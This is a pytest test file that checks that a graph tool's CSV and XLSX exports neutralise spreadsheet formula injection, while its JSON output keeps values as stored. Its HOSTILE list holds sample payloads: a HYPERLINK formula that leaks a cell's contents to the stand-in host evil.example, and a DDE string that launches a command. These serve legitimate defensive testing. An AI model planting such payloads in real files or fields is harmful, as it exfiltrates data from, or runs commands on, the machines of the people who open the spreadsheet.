"""Hole 8: formulas in the CSV (and XLSX) files we write, beyond the gap reports.

Every output is fed a hostile actor, username or value and must hand it to the spreadsheet as text.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest

from graph import accounts, audit, formats, gap_lists, reports
from graph.store import LadybugStore
from tests.fixtures import invoke, store_file

# What a spreadsheet runs as a formula (and tab / carriage return, which some strip first): stated here,
# not imported, so that the test does not lean on the code it checks.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]

pytestmark = pytest.mark.usefixtures("cheap_hashing")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_START), f"a spreadsheet would run {cell!r}"


@pytest.fixture
def db(tmp_path: Path) -> str:
    path = store_file(tmp_path / "f.lbug")
    with LadybugStore(path) as store:
        for i, text in enumerate(HOSTILE):
            accounts.add(store, f"u{i}{text}", "correct horse battery", "viewer", actor=text)
            with store.transaction() as tx:
                audit.record(tx, text, "pairing.create", text, None, {"note": text})
    return path


def test_pairing_audit_csv(db: str) -> None:
    out = invoke("--db", db, "audit", "--format", "csv").output
    cells = _cells(out)
    _no_formula(cells)
    for text in HOSTILE:
        assert "'" + text in cells, "the text is kept, behind an apostrophe"


def test_pairing_query_csv(db: str) -> None:
    out = invoke(
        "--db", db, "query", "audit/entries", "-p", "since=", "-p", "actor=", "-p", "action=", "--format", "csv"
    )
    cells = _cells(out.output)
    _no_formula(cells)
    assert "'" + HOSTILE[0] in cells


def test_user_list_csv(db: str) -> None:
    cells = _cells(invoke("--db", db, "user", "list", "--format", "csv").output)
    _no_formula(cells)
    assert any(c.startswith("u0=HYPERLINK") for c in cells)  # a name that only contains one is left as it is


def test_user_list_csv_with_a_name_that_starts_like_a_formula(tmp_path: Path) -> None:
    path = store_file(tmp_path / "names.lbug")
    invoke("--db", path, "user", "add", HOSTILE[0], "--role", "viewer", "--password", "correct horse battery")
    cells = _cells(invoke("--db", path, "user", "list", "--format", "csv").output)
    _no_formula(cells)
    assert "'" + HOSTILE[0] in cells


def test_the_apps_audit_download(db: str, monkeypatch: pytest.MonkeyPatch, app_stores: list[str]) -> None:
    from graph.ui import audit_page

    app_stores.append(db)
    monkeypatch.setenv("PAIRING_DB", db)
    rows = audit_page.audit_rows()
    cells = _cells(audit_page.csv_bytes(rows).decode("utf-8-sig"))
    _no_formula(cells)
    assert "'" + HOSTILE[1] in cells


def test_numbers_stay_numbers() -> None:
    """Only text is neutralised: a negative number must reach the spreadsheet as a number."""
    out = formats.to_csv([{"n": -3, "x": -0.5, "t": "-3"}], ["n", "x", "t"])
    assert out.splitlines()[1] == "-3,-0.5,'-3"
    row = {"village_id": "-V1", "village": "=1+1", "county": "县", "township": "@x", "policy": [], "rate": -0.25}
    text = reports.csv_text([row], gap_lists.GAP_COLUMNS[:4])
    _no_formula(_cells(text))


def test_xlsx_reports_hold_no_formula(tmp_path: Path) -> None:
    rows = [{"village_id": t, "village": t, "county": t, "township": t} for t in HOSTILE]
    target = tmp_path / "r.xlsx"
    reports.write_report(rows, gap_lists.GAP_COLUMNS[:4], target, "xlsx", HOSTILE[0], filters={"county": HOSTILE[3]})
    sheet = openpyxl.load_workbook(target).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            assert not str(cell.value or "").startswith(FORMULA_START)


def test_json_is_left_alone(db: str) -> None:
    """JSON is for programs, not spreadsheets: the value is exactly what was stored."""
    rows = json.loads(invoke("--db", db, "audit", "--format", "json").output)
    assert HOSTILE[0] in [r["actor"] for r in rows]
